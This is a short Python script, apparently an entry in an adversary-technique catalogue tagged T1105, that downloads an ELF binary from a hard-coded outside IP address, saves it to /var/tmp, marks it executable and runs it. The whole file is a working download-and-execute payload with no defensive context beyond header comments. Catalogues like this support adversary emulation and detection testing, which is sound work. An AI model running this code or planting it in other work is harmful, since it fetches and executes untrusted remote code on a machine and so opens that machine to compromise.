#!/usr/bin/env python3
# title: Python downloads a program and runs it
# technique: T1105
# needs: python3
# short: yes

import os, subprocess, urllib.request
urllib.request.urlretrieve("http://192.88.99.7/x.elf", "/var/tmp/x")
os.chmod("/var/tmp/x", 0o755)
subprocess.call(["/var/tmp/x"])
